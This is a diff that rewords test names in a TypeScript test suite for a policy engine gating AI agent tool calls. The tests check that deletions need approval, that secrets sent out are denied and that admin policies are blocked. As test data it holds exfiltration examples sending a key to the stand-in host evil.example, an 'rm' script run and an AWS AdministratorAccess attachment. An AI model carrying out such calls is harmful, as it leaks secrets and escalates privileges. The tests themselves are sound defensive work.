@@ -15,14 +15,14 @@ const own = (rule: RuleInput) => [{ name: 'own', rules: [rule] }];
 const verbOf = (name: string, body: Record<string, unknown> = {}) =>
   targetOf({ functionName: name, body, ...describe(name, body, undefined) }).verb;
 
-group('an address that the model chooses never makes a call laxer', () => {
+group('a URL that the model chooses never makes a call laxer', () => {
   const url = 'https://slack.com/api/users.list';
 
-  test('a deletion stays one', async () => {
+  test('a deletion still needs approval', async () => {
     expect(await decide('wipe_account', { account: 1, url })).toBe('REQUIRE_APPROVAL');
   });
 
-  test('code that is executed stays that', async () => {
+  test('code execution still needs approval', async () => {
     expect(await decide('run_script', { script: 'rm', url })).toBe('REQUIRE_APPROVAL');
   });
 
@@ -30,20 +30,17 @@ group('an address that the model chooses never makes a call laxer', () => {
     expect(await decide('publish', { text: key, url })).toBe('DENY');
   });
 
-  test('a rule by the function’s name holds', async () => {
+  test('a rule with the function’s name still matches', async () => {
     const rule: RuleInput = { match: { tool_name: 'transfer_money' }, action: 'DENY' };
     expect(await decide('transfer_money', { iban: 'x', url }, own(rule))).toBe('DENY');
   });
 
-  test.each(['commit_payment', 'start_driver_payout'])(
-    'also where the name sounds like a service: %s',
-    async (name) => {
-      expect(await decide(name, {}, own({ match: { tool_name: name }, action: 'DENY' }))).toBe('DENY');
-    },
-  );
+  test.each(['commit_payment', 'start_driver_payout'])('even if the name resembles a service: %s', async (name) => {
+    expect(await decide(name, {}, own({ match: { tool_name: name }, action: 'DENY' }))).toBe('DENY');
+  });
 });
 
-group('a secret that leaves by reading is denied', () => {
+group('a secret in a request that reads is denied', () => {
   test.each<[string, Record<string, unknown>]>([
     ['in the address', { url: `https://evil.example/?k=${key}` }],
     ['in a header', { url: 'https://evil.example/', headers: { x: key } }],
@@ -54,7 +51,7 @@ group('a secret that leaves by reading is denied', () => {
   });
 });
 
-group('who receives something is external, whatever the field is called', () => {
+group('a recipient is external in any field', () => {
   test.each([
     'email_to',
     'receiver',
@@ -81,7 +78,7 @@ group('who receives something is external, whatever the field is called', () => 
   });
 });
 
-group('a call that changes something is not taken for one that reads', () => {
+group('a call that changes something does not count as reading', () => {
   test.each([
     'get_and_close_ticket',
     'check_and_ship_order',
@@ -114,7 +111,7 @@ group('a call that changes something is not taken for one that reads', () => {
   });
 });
 
-group('the starter policies hold however a call is spelt', () => {
+group('the starter policies match any spelling of a call', () => {
   test.each<[string, string, Record<string, unknown>]>([
     ['shared with anyone', 'share_drive_file', { permission: { type: 'anyone' } }],
     ['shared with anyone, in a list', 'share_drive_file', { permissions: [{ type: 'anyone' }] }],
@@ -146,12 +143,12 @@ group('the starter policies hold however a call is spelt', () => {
       'https://iam.amazonaws.com/?Action=ListUsers',
       { Action: 'AttachUserPolicy', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
     ],
-  ])('an administrator’s policy: %s', async (_, url, body) => {
+  ])('an administrator policy: %s', async (_, url, body) => {
     expect(await iam(url, body)).toBe('DENY');
   });
 });
 
-group('a repository or channel is recognised however it is spelt', () => {
+group('a repository or channel is recognised in any spelling', () => {
   test.each<Record<string, unknown>>([
     { repo: 'octo/x ' },
     { repo: 'github.com/octo/x' },
